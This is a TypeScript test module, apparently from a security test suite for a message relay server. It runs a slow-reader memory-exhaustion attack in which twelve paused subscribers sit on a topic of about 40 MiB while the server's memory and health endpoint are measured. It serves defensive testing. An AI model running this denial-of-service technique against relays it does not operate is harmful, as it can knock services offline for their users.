/**
 * Item 2, slow readers run the server out of memory: one topic holds many messages of 256 KiB;
 * then readers (fresh keys, a few addresses) subscribe to it and never read their sockets (the
 * TCP socket is paused right after the subscribe is sent), so everything the relay pushes
 * waits in its memory. The server's resident memory is sampled while they sit. Held when it
 * grew by less than a quarter of what the readers were owed (readers x the topic's bytes: the
 * relay did not buffer the topic for each of them), and the Provider API kept answering.
 */
import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import { Peer } from '../relay-peer.js';
import { judge, mib, type Attack, type AttackResult } from './attack.js';
import { pool, request, sleep, tally } from './net.js';

/** A message of nearly the relay's 256 KiB limit. */
const MESSAGE_BYTES = 256 * 1024 - 256;

interface Reader {
  peer: Peer;
  socket: Socket;
  closeCode: number | null;
}

async function publishTopic(
  relayUrl: string,
  from: string,
  topic: string,
  count: number,
): Promise<{ published: number; refusals: string[] }> {
  const publisher = await Peer.open(relayUrl, undefined, { localAddress: from });
  const message = randomBytes(MESSAGE_BYTES / 2).toString('hex');
  const refusals: string[] = [];
  let published = 0;
  try {
    await pool(
      4,
      Array.from({ length: count }, () => async () => {
        const reply = await publisher.call('irn_publish', { topic, message, ttl: 3600, tag: 1100 });
        if (reply.error) refusals.push(String((reply.error as { code: number }).code));
        else published++;
        await sleep(15); // under the relay's 100 publishes per second per client
      }),
    );
  } finally {
    publisher.ws.terminate();
  }
  return { published, refusals };
}

async function openReader(relayUrl: string, from: string, topic: string): Promise<Reader> {
  const peer = await Peer.open(relayUrl, undefined, { localAddress: from, ack: false, autoPong: false });
  const reader: Reader = { peer, socket: (peer.ws as unknown as { _socket: Socket })._socket, closeCode: null };
  peer.ws.on('close', (code) => (reader.closeCode = code));
  peer.ws.send(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'irn_subscribe', params: { topic } }));
  reader.socket.pause();
  return reader;
}

export const slowReaders: Attack = {
  id: 'slow-readers',
  item: 2,
  title: 'Paused readers on a big topic',
  async run({ target, quick, addresses, log }): Promise<AttackResult> {
    // The same topic in both modes: what the readers are owed stays far above a busy machine's GC slack.
    const messages = 160;
    const readerCount = 12;
    const holdMs = quick ? 6_000 : 15_000;
    const topic = randomBytes(32).toString('hex');
    // At most 100 messages (25 MiB) from one address: under the default 32 MiB per address and hour.
    const publishers = addresses.attackers(Math.ceil(messages / 100));
    const shares = publishers.map((_, i) => Math.min(100, messages - i * 100));
    log(`publishing ${messages} messages of 256 KiB on one topic`);
    const published = await Promise.all(publishers.map((from, i) => publishTopic(target.relayUrl, from, topic, shares[i]!)));
    const publishedCount = published.reduce((n, p) => n + p.published, 0);
    const topicBytes = publishedCount * MESSAGE_BYTES;
    await sleep(1000);
    const rssBefore = target.rss();

    log(`${readerCount} paused readers subscribe, held ${holdMs / 1000} s`);
    const readerAddresses = addresses.attackers(3);
    const readers = await Promise.all(
      Array.from({ length: readerCount }, (_, i) => openReader(target.relayUrl, readerAddresses[i % 3]!, topic)),
    );
    let rssPeak = rssBefore ?? 0;
    const healthMs: number[] = [];
    let healthFailures = 0;
    const holdEnd = Date.now() + holdMs;
    while (Date.now() < holdEnd) {
      rssPeak = Math.max(rssPeak, target.rss() ?? 0);
      const health = await request(`${target.url}/health`, { from: addresses.victim(), timeoutMs: 3000 });
      if (health.status === 200) healthMs.push(health.ms);
      else healthFailures++;
      await sleep(250);
    }
    const closedWhilePaused = readers.filter((r) => r.closeCode !== null).length;
    // Read what each reader was sent, then see whether the relay had closed it.
    for (const r of readers) r.socket.resume();
    await sleep(quick ? 1500 : 3000);
    const received = readers.map((r) => r.peer.pushes.length);
    const closeCodes = readers.filter((r) => r.closeCode !== null).map((r) => r.closeCode!);
    for (const r of readers) r.peer.ws.terminate();
    await sleep(1000);
    const rssAfter = target.rss();

    const owed = readerCount * topicBytes;
    const growth = rssBefore === undefined ? undefined : rssPeak - rssBefore;
    const conditions = {
      memoryBounded: growth !== undefined && growth < owed / 4,
      apiAnswered: healthFailures === 0,
    };
    const { verdict, failed } = judge(conditions);
    return {
      tried:
        `${publishedCount} messages of 256 KiB (${mib(topicBytes)}) on one topic, then ${readerCount} readers from 3 addresses ` +
        `subscribing to it without reading for ${holdMs / 1000} s (${mib(owed)} owed to them in all)`,
      criterion: "the server's RSS grows by less than a quarter of what the readers are owed, and the Provider API answers throughout",
      verdict: rssBefore === undefined ? 'not run' : verdict,
      measured: {
        messagesPublished: publishedCount,
        publishRefusals: tally(published.flatMap((p) => p.refusals)),
        topicBytes,
        bytesOwedToReaders: owed,
        serverRssBytesBefore: rssBefore ?? null,
        serverRssBytesPeak: rssBefore === undefined ? null : rssPeak,
        serverRssBytesGrowth: growth ?? null,
        serverRssBytesAfterReadersLeft: rssAfter ?? null,
        readersClosedWhilePaused: closedWhilePaused,
        readersClosedInAll: closeCodes.length,
        closeCodes: tally(closeCodes),
        pushesReceivedPerReaderMax: Math.max(...received),
        healthAnsweredMsMax: healthMs.length ? Math.max(...healthMs) : null,
        healthFailures,
      },
      notes: [
        ...(rssBefore === undefined ? ["the server's memory could not be read: start it here or pass --pid"] : []),
        ...(failed.length ? [`failed: ${failed.join(', ')}`] : []),
      ],
    };
  },
};
